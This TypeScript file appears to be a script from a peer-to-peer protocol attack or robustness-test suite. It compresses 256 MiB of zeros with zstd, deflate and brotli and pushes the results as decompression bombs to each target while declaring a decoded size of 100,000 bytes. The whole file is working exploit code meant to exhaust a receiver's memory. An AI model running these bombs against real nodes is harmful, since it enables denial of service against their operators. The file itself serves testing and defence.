/** Sends a few kilobytes that decompress to far more than the header says. */
import { promisify } from 'node:util'
import { brotliCompress, constants, deflate, zstdCompress } from 'node:zlib'
import { setTimeout as delay } from 'node:timers/promises'
import { attackArgs } from '../support/attack-args.ts'
import { Attacker } from '../support/attacker.ts'
import { chunk, MODEL, offer } from '../support/protocols.ts'
import { push } from '../support/push.ts'

const CHUNK = 65_536
const DECODED = 256 * 1_048_576
const SAID = 100_000

const { targets } = attackArgs()
const zeros = Buffer.alloc(DECODED)
const bombs: Array<[encoding: number, payload: Buffer]> = [
  [1, await promisify(zstdCompress)(zeros)],
  [2, await promisify(deflate)(zeros)],
  [3, await promisify(brotliCompress)(zeros, { params: { [constants.BROTLI_PARAM_QUALITY]: 3 } })]
]

for (const [encoding, payload] of bombs) {
  const attacker = await Attacker.create()
  const chunks = Array.from({ length: Math.ceil(payload.byteLength / CHUNK) }, (_, i) =>
    payload.subarray(i * CHUNK, (i + 1) * CHUNK)
  )

  for (const target of targets) {
    void attacker.insist(target, async () => {
      await attacker.link(target)
      const stream = await attacker.open(target, MODEL)
      const answered = new Promise((resolve) => stream.addEventListener('message', resolve, { once: true }))

      const { bytes: offered } = await offer(attacker.key, {
        origin: attacker.peerId,
        chunks,
        chunkSize: CHUNK,
        encoding,
        decodedSize: SAID
      })

      await push(stream, offered)
      await Promise.race([answered, delay(5_000)])
      attacker.offend(target)

      for (const [i, bytes] of chunks.entries()) {
        await push(stream, chunk(i, bytes))
      }
    })
  }
}
